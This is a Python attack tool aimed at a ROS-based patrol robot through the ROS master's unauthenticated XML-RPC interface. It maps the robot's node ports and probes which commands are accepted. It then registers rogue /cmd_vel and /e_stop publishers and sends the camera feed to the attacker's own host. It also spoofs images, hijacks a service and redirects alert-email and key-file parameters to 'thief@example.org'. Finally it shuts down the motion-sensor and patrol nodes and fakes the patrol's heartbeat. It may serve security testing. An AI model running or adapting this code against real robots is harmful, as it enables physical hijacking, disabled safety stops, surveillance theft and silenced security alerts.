"""What somebody in the network tries with a ROS graph, by ROS's own protocol alone.

graph_stranger.py look                 on the robot: the ports of its nodes, as JSON
graph_stranger.py attack PORTS ADDRESS...   from elsewhere: which orders are taken, as JSON
graph_stranger.py trick N ROBOT OWN    the N-th round of tricks with an open graph; stays in it until it is ended
"""

import contextlib
import http.client
import json
import os
import socket
import struct
import sys
import time
import xmlrpc.client
from concurrent.futures import ThreadPoolExecutor
from urllib.parse import urlparse

WAIT = 1.5  # [s]
socket.setdefaulttimeout(WAIT)
BRIDGE = 11411


def proxy(address, port):
    return xmlrpc.client.ServerProxy(f"http://{address}:{port}/")


def port_of(uri):
    return urlparse(uri).port


def look(master_uri):
    master = xmlrpc.client.ServerProxy(master_uri)
    uris = {name: master.lookupNode("/look", name)[2] for name in ("/twist_mux", "/rosout", "/esp_client1")}
    topic = xmlrpc.client.ServerProxy(uris["/twist_mux"]).requestTopic("/look", "/cmd_vel", [["TCPROS"]])[2]
    return {
        "master": port_of(master_uri),
        "mux": port_of(uris["/twist_mux"]),
        "rosout": port_of(uris["/rosout"]),
        "bridge": port_of(uris["/esp_client1"]),
        "topic": topic[2],
    }


def header(**fields):
    lines = [f"{name}={value}".encode() for name, value in fields.items()]
    body = b"".join(struct.pack("<I", len(line)) + line for line in lines)
    return struct.pack("<I", len(body)) + body


def listen(address, port):
    """The robot's topic /cmd_vel, straight from the node's port."""
    said = header(callerid="/x", topic="/cmd_vel", type="geometry_msgs/Twist", md5sum="*", tcp_nodelay="0")
    with socket.create_connection((address, port)) as link:
        link.sendall(said)
        return bool(link.recv(4))


def report_motion(address):
    """A motion sensor that nobody has."""
    with socket.create_connection((address, BRIDGE)) as link:
        return bool(link.recv(16))


def orders(address, ports):
    def master():  # one for each order: they run side by side
        return proxy(address, ports["master"])

    return {
        "list the graph": lambda: master().getSystemState("/x"),
        "ask where a node is": lambda: master().lookupNode("/x", "/twist_mux"),
        "set a parameter": lambda: master().setParam("/x", "/stolen", address),
        "publish /cmd_vel": lambda: master().registerPublisher(
            "/x", "/cmd_vel", "geometry_msgs/Twist", f"http://{address}:9"
        ),
        "take a service": lambda: master().registerService("/x", "/s", "rosrpc://x:9", "http://x:9"),
        "deafen a node": lambda: proxy(address, ports["bridge"]).publisherUpdate("/x", "/clock", []),
        "tell a node a parameter": lambda: proxy(address, ports["mux"]).paramUpdate("/x", "/x", 1),
        "ask a C++ node": lambda: proxy(address, ports["rosout"]).getPid("/x"),
        "listen to a topic": lambda: listen(address, ports["topic"]),
        "report motion": lambda: report_motion(address),
    }


def attack(ports, addresses):
    tries = [(f"{what} at {address}", order) for address in addresses for what, order in orders(address, ports).items()]

    def is_taken(order):
        try:
            return bool(order())
        except (OSError, xmlrpc.client.Error, ValueError):
            return False

    with ThreadPoolExecutor(len(tries)) as pool:
        taken = list(pool.map(lambda each: is_taken(each[1]), tries))
    return {what: good for (what, _), good in zip(tries, taken, strict=True)}


def sign_off(master, topic, node):
    """A publisher, at the master, in its own name."""
    return master.unregisterPublisher(node, topic, master.lookupNode("/x", node)[2])


def trick(number, robot, own):
    master = proxy(robot, 11311)
    here = f"http://{own}:9999/"
    if number == 0:
        master.registerPublisher("/twin", "/cmd_vel", "geometry_msgs/Twist", f"http://{robot}:9998/")
        master.registerPublisher("/thief", "/e_stop", "std_msgs/Bool", here)
        master.registerSubscriber("/spy", "/camera/rgb/image_raw", "sensor_msgs/Image", here)
        master.registerPublisher("/liar", "/camera/rgb/image_raw", "sensor_msgs/Image", f"http://{robot}:9997/")
        master.registerService("/butler", "/move_base/clear_costmaps", f"rosrpc://{own}:9996", f"http://{own}:9995/")
        master.setParam("/x", "/use_sim_time", True)
        time.sleep(5.0)  # both publishers of the camera are there for a while
        master.unregisterPublisher("/liar", "/camera/rgb/image_raw", f"http://{robot}:9997/")
        for topic in ("/camera/rgb/image_raw", "/scan", "/odom", "/darknet_ros/bounding_boxes"):
            sign_off(master, topic, f"/speaker{topic.replace('/', '_')}")
        for name in (
            "/patrolling_node/email_to",
            "/sensor_watch/email_to",
            "/twist_mux/limits",
            "/esp_client1/key_file",
        ):
            master.setParam("/x", name, "thief@example.org")
    elif number == 1:
        sign_off(master, "/motion_trigger", "/esp_client1")
        sign_off(master, "/cmd_vel", "/twist_mux")
        master.unregisterPublisher("/twin", "/cmd_vel", f"http://{robot}:9998/")
        master.unregisterSubscriber(
            "/patrolling_node", "/motion_trigger", master.lookupNode("/x", "/patrolling_node")[2]
        )
    else:
        for node in ("/esp_client1", "/patrolling_node"):
            with contextlib.suppress(OSError, xmlrpc.client.Error, http.client.HTTPException):  # it ends at once
                xmlrpc.client.ServerProxy(master.lookupNode("/x", node)[2]).shutdown("/x", "out")
        time.sleep(15.0)
        master.registerPublisher("/patrolling_node", "/patrol/alive", "std_msgs/Empty", here)


if __name__ == "__main__":
    if sys.argv[1] == "trick":
        trick(int(sys.argv[2]), *sys.argv[3:])
    elif sys.argv[1] == "look":
        print(json.dumps(look(os.environ["ROS_MASTER_URI"])))
    else:
        print(json.dumps(attack(json.loads(sys.argv[2]), sys.argv[3:])))
